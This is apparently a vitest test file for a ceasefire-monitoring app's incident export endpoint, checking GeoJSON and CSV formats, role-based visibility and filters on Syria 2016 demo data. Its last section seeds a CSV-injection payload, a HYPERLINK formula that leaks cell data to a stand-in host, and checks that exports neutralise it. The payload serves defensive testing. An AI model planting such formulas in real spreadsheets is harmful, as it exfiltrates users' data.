// GET /api/v1/exports/incidents on the demo's first week: golden files for each format, each file
// parsed back (RFC 7946, csv-parse), exactly the incidents and fields each role gets from GET
// /api/v1/incidents, the list's filters, and cells a spreadsheet would run as formulas.
// Golden files live in golden/; TRUCE_UPDATE_GOLDEN=1 rewrites them (a missing one fails).
import fs from 'node:fs';
import path from 'node:path';
import { check } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decidedIncident, fileReport } from '../../test/support/desk.ts';
import { demoId, testApp, type TestApp } from '../../test/support/app.ts';
import { ROLES, type Role } from '../auth/roles.ts';
import { seedDemoMap } from '../demo/syria2016-map.ts';
import { DEMO_PARTIES } from '../demo/syria2016.ts';
import { seedDemoReports } from '../demo/syria2016-reports.ts';
import { merge, requestInfo, review } from '../incidents/service.ts';
import { SYSTEM, write } from '../ledger/ledger.ts';
import { createParty } from '../parties/service.ts';
import { ACLED_COLUMNS, CSV_COLUMNS, HXL_COLUMNS } from './formats.ts';

const GOLDEN = path.join(import.meta.dirname, 'golden');
const FORMATS = ['geojson', 'acled', 'hxl', 'csv'] as const;
const START = Date.now();

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
  await seedDemoMap(t.db, t.config);
  await seedDemoReports(t.db, t.config);
}, 180_000);
afterAll(() => t?.close());

const exportOf = (role: Role, qs: string) => t.call(role, { method: 'GET', url: `/api/v1/exports/incidents?${qs}` });

/** Every page of the list, as the role gets it. */
async function listAll(role: Role, qs = ''): Promise<any[]> {
  const out: any[] = [];
  let cursor = '';
  for (;;) {
    const res = await t.call(role, { method: 'GET', url: `/api/v1/incidents?limit=500${qs ? `&${qs}` : ''}${cursor ? `&cursor=${cursor}` : ''}` });
    expect(res.statusCode, res.body).toBe(200);
    out.push(...res.json().items);
    if (!res.json().next) return out;
    cursor = res.json().next;
  }
}

const csvOf = (body: string) => parse(body, { relax_column_count: false }) as string[][];
const rowsAsObjects = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));

/** The run's own values made stable: ids (but the demo parties') by first appearance, and the times of this run. */
function normalise(text: string): string {
  const parties = new Set(DEMO_PARTIES.map((p) => p.id));
  const ids = new Map<string, string>();
  return text
    .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, (id) => (parties.has(id) ? id : (ids.get(id) ?? ids.set(id, `<id-${ids.size + 1}>`).get(id)!)))
    .replace(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z/g, (ts) => (Date.parse(ts) >= START - 3_600_000 ? '<now>' : ts))
    .replace(/(?<=,)\d{10}(?=\r?\n)/g, (s) => (Number(s) * 1000 >= START - 3_600_000 ? '<now>' : s));
}

function golden(name: string, text: string) {
  const file = path.join(GOLDEN, name);
  if (process.env.TRUCE_UPDATE_GOLDEN === '1') {
    fs.mkdirSync(GOLDEN, { recursive: true });
    fs.writeFileSync(file, text);
  }
  expect(fs.existsSync(file), `golden file ${name} is missing (TRUCE_UPDATE_GOLDEN=1 writes it)`).toBe(true);
  expect(text).toBe(fs.readFileSync(file, 'utf8'));
}

describe('the demo’s first week, as the secretariat exports it', () => {
  const body: Record<string, string> = {};
  beforeAll(async () => {
    for (const f of FORMATS) {
      const res = await exportOf('secretariat', `format=${f}`);
      expect(res.statusCode, res.body).toBe(200);
      body[f] = res.body;
    }
  });

  it.each(FORMATS)('%s matches its golden file', (f) => {
    golden(`demo.${f === 'geojson' ? 'geojson' : `${f}.csv`}`, normalise(f === 'geojson' ? `${JSON.stringify(JSON.parse(body[f]), null, 1)}\n` : body[f]));
  });

  it('answers each format with its media type, an attachment name and no caching', async () => {
    const types = { geojson: /^application\/geo\+json/, acled: /^text\/csv; charset=utf-8/, hxl: /^text\/csv; charset=utf-8/, csv: /^text\/csv; charset=utf-8/ };
    const names = { geojson: /\.geojson"$/, acled: /\.acled\.csv"$/, hxl: /\.hxl\.csv"$/, csv: /\d\.csv"$/ };
    for (const f of FORMATS) {
      const res = await exportOf('public', `format=${f}`);
      expect(res.headers['content-type']).toMatch(types[f]);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="truce-incidents-\d{4}-\d{2}-\d{2}-\d{6}\./);
      expect(res.headers['content-disposition']).toMatch(names[f]);
      expect(res.headers['cache-control']).toBe('no-store');
    }
  });

  it('writes an RFC 7946 FeatureCollection with as many features as the list has incidents', async () => {
    const all = await listAll('secretariat');
    expect(all.length).toBeGreaterThan(5);
    const fc = check(body.geojson); // throws on a document that is not GeoJSON
    expect(fc.type).toBe('FeatureCollection');
    const parsed = JSON.parse(body.geojson);
    expect(parsed.crs).toBeUndefined(); // RFC 7946 dropped crs: WGS 84 always
    expect(parsed.features).toHaveLength(all.length);
    for (const f of parsed.features) {
      expect(f.type).toBe('Feature');
      if (f.geometry) {
        expect(f.geometry.type).toBe('Point');
        const [lon, lat] = f.geometry.coordinates;
        expect(lon >= -180 && lon <= 180 && lat >= -90 && lat <= 90).toBe(true); // longitude first
      }
    }
  });

  it('writes CSV that csv-parse reads back, a row per incident of the list', async () => {
    const n = (await listAll('secretariat')).length;
    const acled = csvOf(body.acled);
    expect(acled[0]).toEqual([...ACLED_COLUMNS]);
    expect(acled[0]).toHaveLength(31);
    expect(acled[0][0]).toBe('event_id_cnty');
    expect(acled[0][30]).toBe('timestamp');
    expect(acled.length - 1).toBe(n);
    const hxl = csvOf(body.hxl);
    expect(hxl[0]).toEqual(HXL_COLUMNS.map(([h]) => h));
    // the hashtag row: every cell a hashtag (#tag, lower case, +attributes), as HXL readers look for
    expect(hxl[1].every((c) => /^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$/.test(c))).toBe(true);
    for (const tag of ['#event+id', '#date+occurred', '#adm1+name', '#adm1+code', '#adm2+name', '#geo+lat', '#geo+lon', '#group+perpetrator', '#affected+killed', '#affected+injured', '#status']) expect(hxl[1]).toContain(tag);
    expect(hxl.length - 2).toBe(n);
    const csv = csvOf(body.csv);
    expect(csv[0]).toEqual([...CSV_COLUMNS]);
    expect(csv.length - 1).toBe(n);
  });

  it('fills ACLED’s columns from the incident: types, actors, fatalities, units, precision', async () => {
    const all = await listAll('secretariat');
    const rows = rowsAsObjects(csvOf(body.acled));
    const byId = new Map(all.map((i) => [i.id, i]));
    const name = new Map(DEMO_PARTIES.map((p) => [p.id, p.name]));
    for (const r of rows) {
      const i = byId.get(r.event_id_cnty)!;
      expect(r.event_date).toBe(i.occurredFrom.slice(0, 10));
      expect(r.fatalities).toBe(String(i.casualties.killed?.best ?? 0));
      expect(r.actor1).toBe(name.get(i.perpetratorPartyIds[0]) ?? '');
      expect(r.admin1).toBe(i.pcodes.adm1?.name ?? '');
      expect(r.admin2).toBe(i.pcodes.adm2?.name ?? '');
      expect(r.latitude).toBe(i.location ? String(i.location.coordinates[1]) : '');
      expect(r.longitude).toBe(i.location ? String(i.location.coordinates[0]) : '');
      expect(['1', '2', '3']).toContain(r.time_precision);
      expect(r.country).toBe('Syrian Arab Republic');
      expect(r.iso).toBe('760');
    }
    const airstrike = rows.find((r) => byId.get(r.event_id_cnty)!.eventType === 'airstrike')!;
    expect([airstrike.disorder_type, airstrike.event_type, airstrike.sub_event_type]).toEqual(['Political violence', 'Explosions/Remote violence', 'Air/drone strike']);
  });
});

describe('exactly what each role gets from GET /api/v1/incidents', () => {
  const saaf = demoId('saaf');
  let named: string; // unpublished, naming the liaison's party
  let asked: string; // unpublished, its party asked about it
  let unseen: string; // unpublished, nothing to do with it
  let published: string;
  let mergedAway: string;
  beforeAll(async () => {
    named = (await fileReport(t.db, { perpetrators: [saaf], at: '2016-03-10T10:00:00Z', lonLat: [36.2, 33.5], pcodes: { adm1: 'SY03' } })).incidentId;
    asked = (await fileReport(t.db, { perpetrators: [demoId('jai')], at: '2016-03-11T10:00:00Z', lonLat: [-3.7, 40.42] })).incidentId; // Madrid: placed by the borders, not P-codes
    await write(t.db, SYSTEM, (w) => requestInfo(w, asked, { addressedToPartyId: saaf, question: 'What happened?', dueAt: '2030-01-01T00:00:00Z' }));
    unseen = (await fileReport(t.db, { perpetrators: [demoId('isil')], at: '2016-03-12T10:00:00Z', lonLat: null })).incidentId;
    published = (await decidedIncident(t.db, { eventType: 'airstrike', at: '2016-03-13T10:00:00Z', casualties: { killed: { best: 4, civilians: 2 } } }, { publish: true })).incidentId;
    const into = (await fileReport(t.db, { at: '2016-03-14T10:00:00Z' })).incidentId;
    mergedAway = (await fileReport(t.db, { at: '2016-03-14T11:00:00Z' })).incidentId;
    await write(t.db, SYSTEM, (w) => merge(w, into, { incidentIds: [mergedAway] }));
  });

  it.each(ROLES)('%s: the GeoJSON holds the list’s incidents, in its order, with its fields', async (role) => {
    const list = await listAll(role);
    const res = await exportOf(role, 'format=geojson');
    expect(res.statusCode, res.body).toBe(200);
    const features = JSON.parse(res.body).features;
    expect(features.map((f: any) => f.id)).toEqual(list.map((i) => i.id));
    expect(features).toEqual(list.map(({ location, ...properties }) => ({ type: 'Feature', id: properties.id, geometry: location, properties })));
    const ids = new Set(list.map((i) => i.id));
    expect(ids.has(published)).toBe(true);
    expect(ids.has(mergedAway)).toBe(false);
    const desk = ['admin', 'cochair', 'secretariat', 'monitor'].includes(role);
    expect([ids.has(named), ids.has(asked), ids.has(unseen)]).toEqual(desk ? [true, true, true] : role === 'liaison' ? [true, true, false] : [false, false, false]);
  });

  it.each(ROLES)('%s: each CSV holds the same incidents, the plain one the list’s fields', async (role) => {
    const list = await listAll(role);
    const ids = list.map((i) => i.id);
    for (const f of ['acled', 'hxl', 'csv'] as const) {
      const rows = csvOf((await exportOf(role, `format=${f}`)).body).slice(f === 'hxl' ? 2 : 1);
      expect(rows.map((r) => r[0]), f).toEqual(ids);
    }
    const csv = rowsAsObjects(csvOf((await exportOf(role, 'format=csv')).body));
    const s = (v: unknown) => (v === null || v === undefined ? '' : String(v));
    expect(csv).toEqual(
      list.map((i) =>
        expect.objectContaining({
          id: i.id,
          status: i.status,
          grade: s(i.grade),
          reasoning: s(i.reasoning),
          eventType: i.eventType,
          occurredFrom: i.occurredFrom,
          occurredTo: i.occurredTo,
          longitude: s(i.location?.coordinates[0]),
          latitude: s(i.location?.coordinates[1]),
          perpetratorPartyIds: i.perpetratorPartyIds.join(';'),
          targetPartyIds: i.targetPartyIds.join(';'),
          killedBest: s(i.casualties.killed?.best),
          killedCivilians: s(i.casualties.killed?.civilians),
          injuredBest: s(i.casualties.injured?.best),
          reportCount: String(i.reportCount),
          publishedAt: s(i.publishedAt),
          determinationId: s(i.determination?.id),
          determinationFinding: s(i.determination?.finding),
          determinationStanding: s(i.determination?.standing),
          updatedAt: i.updatedAt,
        }),
      ),
    );
  });

  it('places an incident without P-codes by its point (the borders), and one with neither nowhere', async () => {
    const rows = rowsAsObjects(csvOf((await exportOf('admin', 'format=acled')).body));
    expect(rows.find((r) => r.event_id_cnty === asked)).toMatchObject({ country: 'Spain', iso: '724', admin1: '', longitude: '-3.7', geo_precision: '1' });
    expect(rows.find((r) => r.event_id_cnty === unseen)).toMatchObject({ country: '', iso: '', latitude: '', geo_precision: '' });
  });

  it('shows merged incidents only when asked for, as the list does', async () => {
    const rows = csvOf((await exportOf('admin', 'format=csv&status=merged')).body).slice(1);
    expect(rows.map((r) => r[0])).toEqual((await listAll('admin', 'status=merged')).map((i) => i.id));
    expect(rows.map((r) => r[0])).toContain(mergedAway);
  });
});

describe('the list’s filters', () => {
  it.each([
    ['bbox', 'bbox=36.0,33.0,36.6,33.8'],
    ['from and to', 'from=2016-02-28&to=2016-03-03'],
    ['type', 'type=shelling'],
    ['partyId', `partyId=${demoId('saaf')}`],
    ['status', 'status=disputed'],
    ['grade', 'grade=contested'],
    ['pcode', 'pcode=SY03'],
    ['all at once', `bbox=35,32,42,37&from=2016-02-27&type=shelling&partyId=${demoId('saaf')}`],
  ])('%s: the export holds what the list holds', async (_n, qs) => {
    for (const role of ['secretariat', 'liaison', 'public'] as Role[]) {
      const expected = (await listAll(role, qs)).map((i) => i.id);
      const geo = JSON.parse((await exportOf(role, `format=geojson&${qs}`)).body).features.map((f: any) => f.id);
      const csv = csvOf((await exportOf(role, `format=hxl&${qs}`)).body).slice(2).map((r) => r[0]);
      expect(geo).toEqual(expected);
      expect(csv).toEqual(expected);
    }
    if (qs !== 'status=disputed' && qs !== 'grade=contested') expect((await listAll('secretariat', qs)).length).toBeGreaterThan(0);
  });
});

describe('cells a spreadsheet would run', () => {
  let id: string;
  beforeAll(async () => {
    const hostile = await write(t.db, SYSTEM, (w) => createParty(w, { name: '@Hostile SUM(A1:A9)', kind: 'non_state_armed_group' }));
    id = (await fileReport(t.db, { perpetrators: [hostile.id], at: '2016-03-20T10:00:00Z', lonLat: [36.3, 33.5], pcodes: { adm1: 'SY03' } })).incidentId;
    await write(t.db, SYSTEM, (w) => review(w, id, { status: 'under_review', reasoning: '=HYPERLINK("http://example.invalid/?leak="&A1,"open")' }));
  });

  it('writes them with a leading apostrophe, in every CSV format, and leaves numbers alone', async () => {
    const cellsOf = async (f: string) => {
      const rows = csvOf((await exportOf('admin', `format=${f}`)).body);
      const head = rows[0];
      return Object.fromEntries(head.map((h, k) => [h, rows.find((r) => r[0] === id)![k]]));
    };
    const csv = await cellsOf('csv');
    expect(csv.reasoning).toBe(`'=HYPERLINK("http://example.invalid/?leak="&A1,"open")`);
    expect(csv.perpetrators).toBe(`'@Hostile SUM(A1:A9)`);
    const acled = await cellsOf('acled');
    expect(acled.actor1).toBe(`'@Hostile SUM(A1:A9)`);
    expect(acled.notes).toBe(`'=HYPERLINK("http://example.invalid/?leak="&A1,"open")`);
    const hxl = await cellsOf('hxl');
    expect(hxl.Perpetrators).toBe(`'@Hostile SUM(A1:A9)`);
    expect(hxl.Reasoning).toBe(`'=HYPERLINK("http://example.invalid/?leak="&A1,"open")`);
    // no other cell of any file starts a formula
    for (const f of ['csv', 'acled', 'hxl']) {
      for (const row of csvOf((await exportOf('admin', `format=${f}`)).body)) for (const c of row) expect(/^[=+@\t\r]/.test(c) || /^-(?![0-9.])/.test(c), `${f}: ${c}`).toBe(false);
    }
    // a negative longitude is a number, not text
    const far = csvOf((await exportOf('admin', 'format=csv')).body).find((r) => r[7] === '-3.7');
    expect(far).toBeDefined();
  });

  it('keeps the value itself in GeoJSON (JSON is not run)', async () => {
    const f = JSON.parse((await exportOf('admin', 'format=geojson')).body).features.find((x: any) => x.id === id);
    expect(f.properties.reasoning).toBe('=HYPERLINK("http://example.invalid/?leak="&A1,"open")');
  });
});
